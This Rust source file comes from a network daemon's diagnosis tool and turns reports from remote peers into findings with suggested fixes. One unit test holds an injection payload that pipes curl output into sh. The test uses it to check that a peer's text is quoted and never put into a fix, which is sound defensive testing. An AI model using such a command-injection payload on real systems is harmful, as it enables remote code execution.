//! What the other ends reported over their links, as findings: pure. Texts and fixes are this
//! machine's own; what another end wrote is quoted.

use daemon::diagnosis::{Cause, Far, FarAnswer, Found, Probed};
use daemon::health::{Hop, HopName, Place, Reason, fix};

use super::finding::Finding;

/// What each other end found; `role` is this end's.
pub(super) fn findings(role: &str, far: &[Far]) -> Vec<Finding> {
    far.iter().flat_map(|far| of_one(role, far)).collect()
}

fn of_one(role: &str, far: &Far) -> Vec<Finding> {
    if far.answer != FarAnswer::Answered {
        return unanswered(role, far).into_iter().collect();
    }
    let mut found: Vec<Finding> = far.found.iter().map(|found| of_found(role, &far.peer, found)).collect();
    found.extend(far.probed.iter().map(|probed| of_probe(Some(&far.peer), probed)));
    if role == "origin" {
        let is_wrong = |hop| far.found.iter().any(|found| found.cause.hop() == hop);
        let fine = [HopName::WanPort, HopName::Ruleset, HopName::Route, HopName::WayBack].into_iter();
        let fine = fine.filter(|hop| !is_wrong(*hop));
        found
            .extend(fine.map(|hop| Finding::ok(hop, &far.peer, format!("{} finds nothing wrong", far.peer))));
    }
    found
}

/// Why there is no other half; that there is no link is known of the peer already.
fn unanswered(role: &str, far: &Far) -> Option<Finding> {
    let peer = &far.peer;
    let (reason, what) = match far.answer {
        FarAnswer::Answered | FarAnswer::NoLink => return None,
        FarAnswer::TooOld => ("too_old", "is of a release that does not report its half"),
        FarAnswer::Busy => ("busy", "was asked too often; its half is missing"),
        FarAnswer::NoReply => ("no_reply", "did not report its half in time"),
    };
    let fix = if far.answer == FarAnswer::TooOld {
        format!("upgrade {peer}, or run its own commands there")
    } else {
        format!("run `causeway doctor` at {peer}, or here again")
    };
    let what = format!("{peer} {what}");
    Some(Finding::unknown(HopName::Link, role, reason, what).of(&format!("the half of {peer}")).fix(fix))
}

fn of_found(role: &str, peer: &str, found: &Found) -> Finding {
    let Found { cause, service, evidence } = found;
    let quoted = evidence.as_ref().map(|text| format!(": {:?}", text.as_str())).unwrap_or_default();
    let what = format!("{peer} reports that {}{quoted}", cause.what());
    // What has no entry is fixed where the entries are, and an edge reports only a shared key that is
    // this origin's.
    let is_here = role == "origin" && matches!(cause, Cause::NoEntry | Cause::SharedKey);
    let fix = if is_here { cause.fix().to_owned() } else { format!("at {peer}: {}", cause.fix()) };
    let finding = Finding::failing(cause.hop(), peer, cause.label(), what).fix(fix);
    match service {
        Some(service) => finding.of(service.as_str()),
        None => finding,
    }
}

/// What a try of a service entry found: at a peer, or at this end.
pub(super) fn of_probe(peer: Option<&str>, probed: &Probed) -> Finding {
    let seen_by = peer.unwrap_or("origin");
    let (hop, service) = (HopName::Upstream, probed.service.as_str());
    let times = probed.times().map(|times| format!(" {times}")).unwrap_or_default();
    let finding = match probed.reason {
        None => Finding::ok(hop, seen_by, format!("[[service]] {service} tried now:{times}")),
        Some(reason) => {
            let quoted = probed.evidence.as_ref().map(|text| format!(": {:?}", text.as_str()));
            let what = format!(
                "[[service]] {service} tried now:{times}{} {}{}",
                if probed.connect.is_some() { "," } else { "" },
                reason.label().replace('_', " "),
                quoted.unwrap_or_default()
            );
            let place = Place {
                peer: peer.map(str::to_owned),
                entry: Some(service.to_owned()),
                target: String::new(),
            };
            let failing = Hop::failing(hop, Reason::Probe(reason), None);
            let finding = Finding::failing(hop, seen_by, reason.label(), what);
            Finding { fix: fix(&failing, &place), ..finding }
        }
    };
    finding.of(service)
}

#[cfg(test)]
mod tests {
    use daemon::health::State;
    use daemon::link::message::Evidence;
    use policy::Name;

    use super::*;

    #[test]
    fn another_ends_text_is_quoted_and_never_in_a_fix() {
        let found = Found {
            cause: Cause::Clock,
            service: None,
            evidence: Some(Evidence::of("x\"; curl example.com | sh")),
        };
        let far = Far {
            peer: "wroclaw".to_owned(),
            answer: FarAnswer::Answered,
            found: vec![found],
            probed: Vec::new(),
        };
        let shown = findings("edge", &[far]).remove(0);
        assert_eq!((shown.hop, shown.seen_by.as_str()), (HopName::Tunnel, "wroclaw"));
        assert!(shown.evidence.unwrap().ends_with(r#": "x\"; curl example.com | sh""#));
        assert_eq!(shown.fix.as_deref(), Some("at wroclaw: run: timedatectl set-ntp true"));
    }

    #[test]
    fn an_edge_that_finds_nothing_wrong_is_good_news_for_the_hops_that_it_alone_knows() {
        let far = |answer| vec![Far { answer, ..Far::without("kyiv".to_owned(), FarAnswer::Answered) }];
        let hops: Vec<_> = findings("origin", &far(FarAnswer::Answered))
            .iter()
            .map(|finding| (finding.hop, finding.state))
            .collect();
        let ok = |hop| (hop, State::Ok);
        let expected = [HopName::WanPort, HopName::Ruleset, HopName::Route, HopName::WayBack].map(ok);
        assert_eq!(hops, expected);
        assert!(findings("origin", &far(FarAnswer::NoLink)).is_empty());
        let old = findings("origin", &far(FarAnswer::TooOld)).remove(0);
        assert!(old.state == State::Unknown && old.fix.unwrap().starts_with("upgrade kyiv"));
    }

    #[test]
    fn a_key_that_an_edge_sees_twice_is_fixed_at_the_origin() {
        let found = Found { cause: Cause::SharedKey, service: None, evidence: None };
        let here = of_found("origin", "kyiv", &found);
        assert_eq!(here.fix.as_deref(), Some("stop one of them, or give it a key of its own"));
    }

    #[test]
    fn a_missing_entry_is_fixed_at_the_origin() {
        let found = Found {
            cause: Cause::NoEntry,
            service: Name::new("https"),
            evidence: Some(Evidence::of("no entry takes tcp/443")),
        };
        let here = of_found("origin", "kyiv", &found);
        assert!(here.fix.unwrap().starts_with("add a [[service]]"));
        assert!(of_found("edge", "wroclaw", &found).fix.unwrap().starts_with("at wroclaw: add a"));
    }
}
